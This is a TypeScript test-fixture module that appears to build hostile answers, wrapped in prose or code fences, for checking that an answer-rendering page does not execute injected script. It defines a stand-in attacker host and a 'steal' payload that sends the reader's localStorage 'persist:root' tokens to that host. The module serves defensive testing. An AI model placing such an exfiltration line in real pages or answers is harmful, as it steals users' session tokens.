/** An answer that tries to do harm. */
export interface HostileAnswer {
  /** What it tries, to be found by when a check fails. */
  name: string;
  text: string;
}

/** Where stolen things would go. Nothing answers there: the journey ends every request that leaves the origin. */
export const stranger = 'https://stranger.example';
/** What harm is done with: it is seen by the journey whether it runs in the page, in a picture or in a file. */
export const run = 'window.__ran=1;alert(1)';
/** Takes the reader's tokens. */
export const steal = `fetch('${stranger}/'+encodeURIComponent(localStorage.getItem('persist:root')))`;

export const fence = (language: string, source: string, marker = '```') =>
  `${marker}${language}\n${source}\n${marker}`;

/** Each text by itself, with words around it as answers have. */
export const inProse = (kind: string, texts: readonly string[]): HostileAnswer[] =>
  texts.map((text) => ({
    name: `${kind}: ${JSON.stringify(text.slice(0, 70))}`,
    text: `Metformin lowers mortality [1].\n\n${text}\n\nThat is all [2].`,
  }));

/** Each text as a block of that language. */
export const inFences = (language: string, sources: readonly string[]): HostileAnswer[] =>
  sources.map((source) => ({
    name: `${language}: ${JSON.stringify(source.slice(0, 70))}`,
    text: `See the picture [1].\n\n${fence(language, source)}\n\nThat is all.`,
  }));

/** The same with JSON. */
export const inJsonFences = (language: string, blocks: readonly unknown[]): HostileAnswer[] =>
  inFences(
    language,
    blocks.map((block) => JSON.stringify(block)),
  );

export const named = (texts: Readonly<Record<string, string>>): HostileAnswer[] =>
  Object.entries(texts).map(([name, text]) => ({ name, text }));
